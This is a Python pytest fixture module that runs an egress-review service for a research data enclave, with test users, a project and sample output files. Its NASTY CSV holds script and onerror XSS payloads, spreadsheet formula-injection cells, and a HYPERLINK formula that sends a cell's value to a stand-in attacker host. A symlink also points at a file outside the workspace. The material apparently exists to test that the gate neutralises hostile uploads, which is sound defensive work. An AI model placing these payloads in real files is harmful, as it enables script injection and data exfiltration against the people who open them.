"""The gate service in-process for its tests: a real tornado server on a free port, in a thread.

Real: the registry (SQLite, migrated), quarantine, checks, workflow, release store, templates,
JupyterHub's XSRF handling and scope check (``HubOAuth`` constructed with test values; it never
reaches a hub). Replaced, and only that: the hub lookup of *who* the user is, by
:class:`~tests.service_kit.TestOnlyIdentityProvider` — the single seam the app offers for tests.

The cast (see ``workflow_fixtures``): project ``cohort-a`` with members ``remi`` (requester),
``mona``, ``max`` (member *and* steward) and ``rita`` (member and steward, used for self-review);
stewards outside it ``sven``, ``stella``, ``sam``; ``nora`` is in no project; ``otto`` (an operator)
has a login but is registered only by the tests that need him.
"""

from __future__ import annotations

import shutil
from collections.abc import Iterator
from dataclasses import dataclass
from pathlib import Path

import pytest
import requests

from egress_gate.service import GateConfig, make_app
from egress_gate.service.gate import Gate
from enclave.db import make_engine, session_scope
from enclave.models import MemberRole, Membership, Role
from enclave.settings import Settings

from ..registry.factories import create_user
from ..service_kit import TestOnlyIdentityProvider, hub_auth_for, serving
from .factories import pseudonym, write_extract
from .workflow_fixtures import SLUG, setup_project

PREFIX = "/services/egress/"
SERVICE_SCOPE = "access:services!service=egress"
USERS = ["remi", "mona", "max", "rita", "sven", "stella", "sam", "nora", "otto"]
PSEUDONYMS = [pseudonym() for _ in range(50)]

TABLE1 = b"age_band,n\n40-49,120\n50-59,95\n60-69,150\n"
SMALL = b"region,patients\nA,15\nB,3\nC,22\nD,40\n"
NASTY = ('label,n\n'
         '<script>alert(1)</script>,120\n'
         '"=HYPERLINK(""http://evil.example/?x=""&A1,""click"")",130\n'
         '+1+2,140\n'
         '@SUM(A1:A9),150\n'
         '-2+3,160\n'
         '"<img src=x onerror=alert(2)>",170\n').encode()


@dataclass
class GateServer:
    url: str
    root: Path
    gate: Gate
    tokens: dict[str, str]  # user -> token

    def workspace(self) -> Path:
        return self.gate.config.workspace(SLUG)

    def browser(self, user: str | None) -> requests.Session:
        """A client that looks like a logged-in browser of ``user`` (None: not logged in)."""
        client = requests.Session()
        if user:
            client.cookies.set(TestOnlyIdentityProvider.COOKIE, self.tokens[user])
        return client

    def page(self, user: str | None, path: str, **kw) -> requests.Response:
        return self.browser(user).get(self.url + PREFIX + path, timeout=30, **kw)

    def api(self, user: str | None, method: str, path: str, **kw) -> requests.Response:
        headers = {"Authorization": f"token {self.tokens[user]}"} if user else {}
        return requests.request(method, self.url + PREFIX + "api/" + path, headers=headers, timeout=60, **kw)

    def submit(self, user: str, paths: list[str], justification: str = "Table 1 of the paper: counts >= 10") -> requests.Response:
        return self.api(user, "POST", "requests", json={"project": SLUG, "paths": paths, "justification": justification})

    def form_post(self, user: str, path: str, data: dict, with_token: bool = True,
                  from_page: str = "requests") -> requests.Response:
        """As a browser: GET ``from_page`` as ``user`` (which sets the XSRF cookie), then POST the form to ``path``.

        The form's token is JupyterHub's signed XSRF cookie value, exactly what the pages put in
        their hidden ``_xsrf`` fields."""
        client = self.browser(user)
        page = client.get(self.url + PREFIX + from_page, timeout=30)
        assert page.status_code == 200, page.text
        if with_token:
            token = client.cookies.get("_xsrf")
            assert token, "the page set no _xsrf cookie"
            data = {**data, "_xsrf": token}
        return client.post(self.url + PREFIX + path, data=data, timeout=60, allow_redirects=False)

    def decide(self, user: str, request_id: int, vote: str = "approve", reason: str = "every cell >= 10, aggregated",
               anonymised: bool = False, with_token: bool = True) -> requests.Response:
        data = {"vote": vote, "reason": reason, **({"anonymised": "yes"} if anonymised else {})}
        return self.form_post(user, f"requests/{request_id}/decision", data, with_token,
                              from_page=f"requests/{request_id}")


@pytest.fixture
def gate_server(tmp_path, sqlite_template) -> Iterator[GateServer]:
    home = tmp_path / "home"
    home.mkdir()
    shutil.copy(sqlite_template, home / "registry.db")
    env = {"ENCLAVE_HOME": str(home), "ENCLAVE_PROJECTS_DIR": str(tmp_path / "projects"), "ENCLAVE_ACTOR": "test-ops",
           "JUPYTERHUB_SERVICE_PREFIX": PREFIX}
    config = GateConfig.from_env(env)
    assert isinstance(config.settings, Settings) and config.data_dir == home / "egress"
    engine = make_engine(config.settings.db_url)
    with session_scope(engine, config.settings.audit_head) as session:
        setup_project(session)
        from sqlalchemy import select

        from enclave.models import Project
        project = session.scalar(select(Project).where(Project.slug == SLUG))
        project.memberships.append(Membership(user=create_user(session, "rita", Role.researcher, Role.steward),
                                              role=MemberRole.member))
    project_dir = config.settings.project_dir(SLUG)
    workspace = project_dir / "workspace"
    (workspace / "outputs").mkdir(parents=True)
    (workspace / "outputs" / "table1.csv").write_bytes(TABLE1)
    (workspace / "outputs" / "small.csv").write_bytes(SMALL)
    (workspace / "outputs" / "nasty.csv").write_bytes(NASTY)
    (workspace / "outputs" / "ids.csv").write_text("visit,n\n" + "".join(f"{p},12\n" for p in PSEUDONYMS[:3]))
    (project_dir / "secret.csv").write_text("nir\n1850775123456\n")
    (workspace / "outputs" / "link.csv").symlink_to(project_dir / "secret.csv")
    write_extract(project_dir, PSEUDONYMS)

    tokens = {user: f"tok-{user}-{i}" for i, user in enumerate(USERS)}
    gate = Gate(config, engine)
    app = make_app(config, hub_auth=hub_auth_for(PREFIX, "egress"), gate=gate,
                   identity_provider=TestOnlyIdentityProvider({t: u for u, t in tokens.items()}, SERVICE_SCOPE))
    try:
        with serving(app, "gate") as url:
            yield GateServer(url, tmp_path, gate, tokens)
    finally:
        engine.dispose()
